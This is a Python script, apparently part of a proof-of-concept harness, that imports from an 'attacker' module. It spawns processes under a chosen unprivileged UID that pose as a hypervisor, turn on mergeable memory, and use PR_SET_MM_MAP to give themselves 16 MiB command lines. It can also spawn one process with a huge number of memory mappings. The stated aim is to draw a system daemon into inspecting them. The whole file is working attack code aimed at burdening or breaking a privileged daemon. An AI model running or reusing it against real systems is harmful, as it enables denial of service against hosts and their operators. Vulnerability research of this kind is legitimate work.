"""Has processes with as long a command line, or as many mappings, as an ordinary user may have.

    many_arguments.py UID COUNT [MAPPINGS]

Each process points its command line to 16 MiB of zeros (PR_SET_MM_MAP), under the name of a hypervisor and with mergeable
memory, so that the daemon looks at it. With MAPPINGS one more process has so many mappings. Each PID is printed once the
process is as it is to be. All end with the standard input.
"""

import ctypes
import os
import signal
import struct
import sys

from attacker import (
    HYPERVISOR,
    PAGE,
    PR_SET_MEMORY_MERGE,
    PR_SET_MM,
    PR_SET_NAME,
    become,
    die_with_parent,
    end_with_input,
    libc,
    memory,
    prctl,
)

LENGTH = 16 << 20


def long_command_line():
    """Moves the command line. The kernel wants all addresses of prctl_mm_map at once."""
    line = memory(LENGTH)
    with open("/proc/self/stat") as file:
        fields = file.read().rsplit(")", 1)[1].split()
    # From startcode on; the first field after the name is number 3.
    of = lambda number: int(fields[number - 3])
    with open("/proc/self/auxv", "rb") as file:
        auxv = file.read()
    held = ctypes.create_string_buffer(auxv, len(auxv))
    code, stack = (of(26), of(27)), of(28)
    data, brk = (of(45), of(46)), of(47)
    now_brk = libc.sbrk(0)
    fields = [*code, *data, brk, now_brk, stack, line, line + LENGTH, of(50), of(51), ctypes.addressof(held)]
    text = struct.pack("<12QII", *fields, len(auxv), 0xFFFFFFFF)
    prctl(PR_SET_MM, 14, ctypes.c_char_p(text), ctypes.c_ulong(len(text)))


def offer_memory():
    prctl(PR_SET_MEMORY_MERGE, 1)
    ctypes.memset(memory(16 * PAGE), 9, 16 * PAGE)


def many_mappings(count):
    """Neighbours with different rights are mappings of their own."""
    first = libc.mmap(None, count * PAGE, 1, 0x22, -1, 0)
    libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    for page in range(0, count, 2):
        if libc.mprotect(first + page * PAGE, PAGE, 3) < 0:
            break


def child(user, work):
    told, tell = os.pipe()
    pid = os.fork()
    if pid == 0:
        become(user)
        die_with_parent()
        prctl(PR_SET_NAME, HYPERVISOR)
        offer_memory()
        work()
        os.write(tell, b"x")
        os.close(tell)
        os.close(told)
        signal.pause()
    os.close(tell)
    if os.read(told, 1) != b"x":
        sys.exit("a child has failed")
    os.close(told)
    print(pid, flush=True)


def main():
    libc.sbrk.restype = ctypes.c_void_p
    user, count = int(sys.argv[1]), int(sys.argv[2])
    for _ in range(count):
        child(user, long_command_line)
    if sys.argv[3:]:
        child(user, lambda: many_mappings(int(sys.argv[3])))
    end_with_input()


main()
